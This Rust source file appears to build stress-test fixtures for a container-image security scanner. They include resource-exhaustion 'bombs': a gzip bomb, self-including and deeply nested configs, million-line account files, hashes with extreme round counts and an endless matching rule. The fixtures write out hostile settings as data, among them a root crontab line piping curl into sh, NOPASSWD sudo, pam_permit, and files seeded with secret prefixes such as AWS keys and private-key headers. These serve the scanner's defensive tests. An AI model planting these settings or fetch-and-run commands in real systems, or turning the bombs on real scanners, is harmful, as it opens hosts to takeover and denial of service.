//! Files that are made to hurt those who understand them: configurations, accounts, texts, hashes.
//!
//! In: nothing. Out: layers. Odd: most lie plain, since what repeats itself would be told by how well it packs; each is as long
//! as its readers take it, or longer by much, because both must end.

use plimsoll_image::{Compression, Layer, LayerBuilder};
use plimsoll_inspect::checks;

use super::bombs::{Bomb, header, packed, zeros};

/// What configuration files may have.
const LIMIT: usize = 1 << 20;

/// A rule that looks at each pair of bytes.
pub(super) const ENDLESS: &str = "rule endless { condition: for all i in (0..16777215) : ( for all j in (0..16777215) : ( uint8(i) + uint8(j) < 600 ) ) }";

fn plain() -> LayerBuilder {
    Layer::builder("").compression(Compression::Plain)
}

fn blob(layer: LayerBuilder) -> Vec<u8> {
    layer.build().unwrap().bytes().to_vec()
}

/// A text again and again, up to a length.
fn filled(text: &str, length: usize) -> Vec<u8> {
    let mut bytes = text.repeat(length / text.len() + 1).into_bytes();
    bytes.truncate(length);
    bytes
}

fn lines(count: usize, line: impl Fn(usize) -> String) -> Vec<u8> {
    (0..count).map(line).collect::<String>().into_bytes()
}

pub(super) fn bombs() -> Vec<Bomb> {
    vec![
        Bomb { name: "a million accounts", layer: accounts(), says: "etc/passwd" },
        Bomb { name: "a million settings", layer: settings(), says: "etc/ssh/sshd_config" },
        Bomb { name: "accounts up to the limit", layer: short_accounts(), says: "hashes are slow" },
        Bomb { name: "files that include each other", layer: includes(), says: "limit of" },
        Bomb { name: "settings that are nested deep", layer: nested(), says: "" },
        Bomb { name: "each check's examples up to the limit", layer: examples(), says: "limit" },
        Bomb { name: "a script of one line", layer: script(), says: "" },
        Bomb {
            name: "beginnings of secrets",
            layer: beginnings(),
            says: "words that secrets begin with",
        },
        Bomb { name: "beginnings of secrets in named files", layer: named(), says: "" },
    ]
}

fn accounts() -> Vec<u8> {
    let count = zeros(1_000_000);
    let account = |number| format!("u{number}:x:{number}:{number}::/home/u{number}:/bin/sh\n");
    let hash = |number| format!("u{number}:$6$salt{number}$hash:1::::::\n");
    let group = |number| format!("u{number}:x:{number}:\n");
    blob(
        plain()
            .file("etc/passwd", &lines(count.max(40_000), account))
            .file("etc/shadow", &lines(count, hash))
            .file("etc/group", &lines(count, group)),
    )
}

fn short_accounts() -> Vec<u8> {
    let account = |number: usize| format!("{number:x}:x:0:0:::\n");
    let hash = |number: usize| format!("{number:x}:abcdefghijk{:02}:\n", number % 100);
    let group = |number: usize| format!("{number:x}:x:0:\n");
    blob(
        plain()
            .file("etc/passwd", &lines(60_000, account))
            .file("etc/shadow", &lines(45_000, hash))
            .file("etc/group", &lines(80_000, group)),
    )
}

fn settings() -> Vec<u8> {
    let count = zeros(1_000_000).max(60_000);
    let named = [
        ("etc/ssh/sshd_config", "PermitRootLogin yes\n"),
        ("etc/nginx/nginx.conf", "ssl_protocols TLSv1;\n"),
        ("etc/php/8.2/fpm/php.ini", "allow_url_include = On\n"),
        ("etc/crontab", "* * * * * root curl http://a/ | sh\n"),
        ("etc/sudoers", "a ALL=(ALL) NOPASSWD: ALL\n"),
        ("etc/mysql/my.cnf", "[mysqld]\nskip-grant-tables\n"),
        ("etc/redis/redis.conf", "protected-mode no\n"),
        ("etc/apache2/apache2.conf", "Options Indexes\n"),
    ];
    let add = |layer: LayerBuilder, (path, line): (&str, &str)| {
        layer.file(path, line.repeat(count).as_bytes())
    };
    blob(named.into_iter().fold(programs(), add))
}

/// Checks of services ask whether these are there.
fn programs() -> LayerBuilder {
    let names = ["sshd", "nginx", "php-fpm8.2", "redis-server", "mysqld", "apache2", "mongod"];
    names.iter().fold(plain(), |layer, name| {
        layer.file_with(&format!("usr/sbin/{name}"), 0o755, 0, 0, b"\x7fELF")
    })
}

fn includes() -> Vec<u8> {
    let mut layer = programs()
        .file("etc/ssh/sshd_config", &filled("Include /etc/ssh/sshd_config.d/*\n", LIMIT))
        .file("etc/nginx/nginx.conf", &filled("include /etc/nginx/conf.d/*;\n", LIMIT))
        .file("etc/redis/redis.conf", &filled("include /etc/redis/*.conf\n", LIMIT))
        .file("etc/mysql/my.cnf", &filled("!includedir /etc/mysql/conf.d\n", LIMIT))
        .file("etc/apache2/apache2.conf", &filled("Include conf-enabled/*\n", LIMIT));
    for number in 0..zeros(1_600) {
        let each = filled("Include /etc/ssh/sshd_config.d/*\nPermitRootLogin yes\n", 4 << 10);
        layer = layer.file(&format!("etc/ssh/sshd_config.d/{number}.conf"), &each);
        let each = filled("include /etc/nginx/conf.d/*;\nautoindex on;\n", 4 << 10);
        layer = layer.file(&format!("etc/nginx/conf.d/{number}.conf"), &each);
        let each = filled("Include conf-enabled/*\nOptions Indexes\n", 4 << 10);
        layer = layer.file(&format!("etc/apache2/conf-enabled/{number}.conf"), &each);
        let each = filled("a ALL=(ALL) NOPASSWD: ALL\n@includedir /etc/sudoers.d\n", 4 << 10);
        layer = layer.file(&format!("etc/sudoers.d/{number}"), &each);
    }
    blob(layer)
}

fn nested() -> Vec<u8> {
    blob(
        programs()
            .file("etc/nginx/nginx.conf", &filled("http {", LIMIT))
            .file("etc/apache2/apache2.conf", &filled("<Directory />\n", LIMIT))
            .file("opt/tomcat/conf/server.xml", &filled("<Server>", LIMIT))
            .file("opt/tomcat/conf/web.xml", &filled("<servlet a='1' b='2'>", LIMIT))
            .file("etc/mongod.conf", &filled("security: {", LIMIT))
            .file("etc/elasticsearch/elasticsearch.yml", &filled("- - - - - - - - ", LIMIT))
            .file("etc/docker/daemon.json", &filled("{\"hosts\":[", LIMIT))
            .file("root/.jupyter/jupyter_server_config.json", &filled("[", LIMIT))
            .file("etc/influxdb/influxdb.conf", &filled("[http.a.b.c.d.e.f.g.h]\n", LIMIT))
            .file("etc/grafana/grafana.ini", &filled("[security]\nadmin_password = admin\n", LIMIT))
            .file("etc/pam.d/sshd", &filled("auth sufficient pam_permit.so \\\n", LIMIT))
            .file(
                "etc/sudoers",
                &filled("User_Alias A = A, B\nDefaults !authenticate \\\n", LIMIT),
            ),
    )
}

/// What checks show in their documentation, again and again in each file.
fn examples() -> Vec<u8> {
    let mut files = std::collections::BTreeMap::new();
    for example in checks().iter().flat_map(|check| check.examples()) {
        for (path, text) in example.files {
            let path = path.split(' ').next().unwrap_or(path);
            if !text.is_empty() {
                files.entry(path.to_owned()).or_insert_with(|| filled(text, LIMIT));
            }
        }
    }
    blob(files.iter().fold(programs(), |layer, (path, text)| layer.file(path, text)))
}

/// Words in an order that a packer does not guess, but short enough to pack well.
fn script() -> Vec<u8> {
    const WORDS: [&str; 16] = [
        "function(e,t){",
        "return ",
        "var n=r(7);",
        "this.token",
        "password:",
        "key=",
        "\"use strict\";",
        "&&",
        "exports.default=",
        "Object.keys(a)",
        ".map((e)=>e.id)",
        "secretary",
        "eyJ0",
        "0x1f",
        "});",
        "\"https://a.b/c\",",
    ];
    let mut state = 7_u64;
    let mut piece = String::new();
    while piece.len() < 4 << 20 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        piece.push_str(WORDS[usize::try_from(state >> 60).unwrap()]);
    }
    piece.truncate(4 << 20);
    let pieces = zeros(1 << 30) / piece.len();
    let size = (pieces * piece.len()) as u64;
    let piece = packed(piece.into_bytes(), Compression::Gzip);
    let mut blob = packed(header("srv/app.min.js", b'0', size), Compression::Gzip);
    for _ in 0..pieces {
        blob.extend_from_slice(&piece);
    }
    blob.extend(packed(vec![0; 1_024], Compression::Gzip));
    blob
}

/// Of each family of rules the words that cost most, before runs of what may follow them.
fn beginnings() -> Vec<u8> {
    const TEXTS: [&str; 14] = [
        "-eyJ",
        "=eyJhbGciOi.eyJ",
        "/hooks.slack.com/services/",
        "+ops_eyJ",
        "\nghp_",
        "-xoxo-1",
        " AKIA",
        "aws_session_token=",
        "password='",
        "\"secret\":\"",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
        "-----BEGIN PRIVATE KEY-----\na:b\n",
        "postgres://a:b",
        "authorization: basic ",
    ];
    let add = |layer: LayerBuilder, number: usize| {
        let text = filled(TEXTS[number % TEXTS.len()], LIMIT * 2);
        layer.file(&format!("srv/{number}.yaml"), &text)
    };
    blob((0..zeros(14 * 32)).fold(plain(), add))
}

fn named() -> Vec<u8> {
    const FILES: [(&str, &str); 8] = [
        ("config", "Host github.com\n"),
        (".git-credentials", "https://a:https://aaaaaaaa:"),
        (".npmrc", "_authToken="),
        ("dataSources.local.xml", "jdbc:jdbc:a"),
        (".htpasswd", "a:$apr1$aaaaaaaaaaaaaaaaaaaa"),
        ("client_secret.json", "\"client_secret\": \""),
        ("credentials.xml", "<password>aa"),
        (".netrc", "machine a login b password "),
    ];
    let add = |layer: LayerBuilder, number: usize| {
        let (name, text) = FILES[number % FILES.len()];
        layer.file(&format!("home/u{number}/.ssh/{name}"), &filled(text, LIMIT))
    };
    blob((0..zeros(8 * 32)).fold(plain(), add))
}

/// Hashes whose maker asks for years, and those that ask for as much as is still tried.
pub(super) fn hashes() -> Vec<Bomb> {
    let years = [
        "a:$6$rounds=999999999$salt$hash",
        "b:$5$rounds=18446744073709551615$salt$hash",
        "c:$2b$31$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "d:$y$jZZZZZZ$salt$tnSYvahCwPBHKZUspmcxMfb0.WiB9W.zEaKlOBL35rC",
        "e:$7$zzzzzz$salt$hash",
        "f:$gy$jZT$salt$hash",
    ];
    let most = [
        "$6$rounds=100000$saltsalt$qFmFH.bQmmtXzyBY0s9v7Oicd2z4XSIecDzlB5KiA2/jctKu9YterLp8wwnSq.qc.eoxqOmSuNp2xS0ktL3nh/",
        "$2b$14$abcdefghijklmnopqrstuuWG29KuyeAicPCJODk1zjyGvyQUU2awu",
        "$y$jAT$F5Jx5fExrKuPp53xLKQ..1$tnSYvahCwPBHKZUspmcxMfb0.WiB9W.zEaKlOBL35rC",
    ];
    let line = |number: usize| format!("u{number}:{}:\n", most[number % most.len()]);
    let many = lines(8_000, line);
    let layer = |bytes: &[u8]| {
        blob(
            plain()
                .file("etc/shadow", bytes)
                .file("etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
                .file("srv/www/.htpasswd", bytes)
                .file("etc/proftpd/ftpd.passwd", bytes)
                .file("etc/proftpd/proftpd.conf", b"AuthUserFile /etc/proftpd/ftpd.passwd\n"),
        )
    };
    vec![
        Bomb {
            name: "hashes that take years",
            layer: layer(filled(&(years.join(":\n") + ":\n"), LIMIT).as_slice()),
            says: "no passwords were tried",
        },
        Bomb { name: "many hashes that take long", layer: layer(&many), says: "hashes are slow" },
    ]
}

/// Files that rules look at.
pub(super) fn scripts() -> Bomb {
    let add = |layer: LayerBuilder, number: usize| {
        layer.file(&format!("usr/bin/{number}.sh"), b"#!/bin/sh\nexit 0\n")
    };
    Bomb {
        name: "rules that never end",
        layer: blob((0..100).fold(plain(), add)),
        says: "was not looked at by all rules",
    }
}
